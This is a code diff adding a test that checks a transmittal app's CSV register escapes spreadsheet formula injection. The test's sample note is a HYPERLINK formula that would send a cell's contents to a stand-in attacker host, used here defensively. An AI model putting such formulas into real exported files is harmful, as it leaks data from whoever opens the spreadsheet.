@@ -165,6 +165,22 @@ def test_it_numbers_transmittals_once_each_when_they_are_issued_at_once(eli_at_r
     assert all(Transmittal.objects.get(batch=b).pdf for b in batches)
 
 
+def test_its_register_never_hands_a_spreadsheet_a_formula(eli_at_riverside):
+    user, project = eli_at_riverside
+    batch = landed_batch(project, user, "+Set")
+    batch.note = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    batch.save(update_fields=["note"])
+    StagedDocument.objects.filter(batch=batch).update(file_name="@sheet.pdf")
+
+    made = transmittal.issue_transmittal(batch)
+    (row,) = csv_rows(made.csv)
+    assert row["Batch note"] == "'" + batch.note and row["Batch"] == "'+Set"
+    assert row["Name"] == row["File name"] == "'@sheet.pdf"
+    assert row["Transmittal"] == "T-0001" and row["SHA-256"] == batch.documents.get().sha256
+    # The PDF is no spreadsheet: it shows the note as written.
+    assert 'HYPERLINK("https://attacker.example/?"&A1,"Open")' in pdf_text(made.pdf)
+
+
 def test_it_issues_a_transmittal_for_what_landed_when_a_partly_landed_batch_is_closed(
     eli_at_riverside, stage, issue_failed, client_for
 ):
